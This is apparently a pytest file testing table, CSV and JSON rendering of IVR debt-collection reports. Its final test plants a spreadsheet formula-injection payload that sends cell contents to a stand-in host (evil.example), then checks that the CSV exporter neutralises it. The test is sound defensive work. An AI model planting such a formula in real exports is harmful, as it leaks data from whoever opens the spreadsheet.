"""Text table, CSV and JSON rendering of the reports."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy.orm import Session

from ivr.reports import (
    funnel_report,
    money_report,
    reasons_report,
    render_table,
    to_csv,
    to_json,
    work_report,
)
from ivr.reports.output import Column, Table
from tests.reports.history import PERIOD


def test_table_is_aligned(hs: Session) -> None:
    text = render_table(reasons_report(hs, PERIOD, language="en"))
    lines = text.splitlines()
    assert lines[0] == "Reasons 2024-11-01 .. 2024-11-30: 12 answers"
    header = next(line for line in lines if line.startswith("category  "))
    forgot = next(line for line in lines if " forgot " in line)
    unknown = next(line for line in lines if " unknown " in line)
    # right-aligned numbers end under their header
    assert forgot.index("33.33") + 5 == header.index("actual %") + len("actual %")
    assert forgot.endswith("-1.67")
    assert unknown.rstrip().endswith("-")  # no deviation for unknown: shown as "-"
    assert "controllable     35.00      3     25.00        -10.00" in text


def test_csv_all_tables_and_one_table(hs: Session) -> None:
    report = reasons_report(hs, PERIOD, language="en")
    buf = io.StringIO()
    to_csv(report, buf)
    blocks = buf.getvalue().split("\n\n")
    assert len(blocks) == 2
    rows = list(csv.reader(io.StringIO(blocks[0])))
    assert rows[0] == ["table", "category", "code", "label", "norm_pct", "count", "actual_pct", "deviation_pp"]
    assert ["reasons", "uncontrollable", "forgot", "forgot or did not have time", "35.00", "4", "33.33", "-1.67"] in rows
    assert ["reasons", "other", "unknown", "no valid key (unknown)", "", "1", "8.33", ""] in rows
    one = io.StringIO()
    to_csv(report, one, table="categories")
    assert list(csv.DictReader(io.StringIO(one.getvalue())))[1] == {
        "category": "uncontrollable", "norm_pct": "65.00", "count": "7", "actual_pct": "58.33", "deviation_pp": "-6.67"}
    with pytest.raises(ValueError, match="no table 'nope'.*reasons, categories"):
        to_csv(report, io.StringIO(), table="nope")


def test_json_keeps_decimals_and_dates_exact(hs: Session) -> None:
    data = json.loads(to_json(money_report(hs, PERIOD)))
    assert data["report"] == "money"
    assert data["period"] == {"start": "2024-11-01", "end": "2024-12-01"}
    assert data["debt_at_start"] == "11600.65"
    assert data["reached"] == {"group": "reached", "cases": 12, "debt": "8020.65", "recovered": "3170.35",
                               "paying_cases": 5, "rate_pct": "39.53"}
    assert data["series"][0] == {"day": "2024-11-01", "total_owed": "11600.65", "accounts": 15, "average": "773.38"}
    funnel = json.loads(to_json(funnel_report(hs, PERIOD)))
    assert funnel["outcomes"]["reason"] == 4 and funnel["steps"][0]["pct_of_parent"] is None
    work = json.loads(to_json(work_report(hs, PERIOD, minutes_per_call=3)))
    assert work["operator_hours_saved"] == "1.25" and work["routes"][0]["queue"] == "billing"


def test_every_report_renders(hs: Session) -> None:
    from ivr.reports import promises_report

    for report in (reasons_report(hs, PERIOD), funnel_report(hs, PERIOD), promises_report(hs, PERIOD),
                   money_report(hs, PERIOD), work_report(hs, PERIOD, minutes_per_call=3)):
        assert report.title in render_table(report)
        buf = io.StringIO()
        to_csv(report, buf)
        assert buf.getvalue().startswith("table,")
        assert json.loads(to_json(report))["report"] == report.name


def test_table_rejects_ragged_rows() -> None:
    with pytest.raises(ValueError, match="does not match"):
        Table("t", "T", (Column("a", "a"),), [(1, 2)])


def test_csv_neutralises_formulas_in_labels_and_keeps_negative_numbers(hs: Session) -> None:
    from sqlalchemy import select

    from ivr.db.models import Reason

    forgot = hs.scalars(select(Reason).where(Reason.code == "forgot")).one()
    forgot.labels = {**forgot.labels, "en": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
    hs.flush()
    buf = io.StringIO()
    to_csv(reasons_report(hs, PERIOD, language="en"), buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue().split("\n\n")[0])))
    assert ["reasons", "uncontrollable", "forgot", '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
            "35.00", "4", "33.33", "-1.67"] in rows
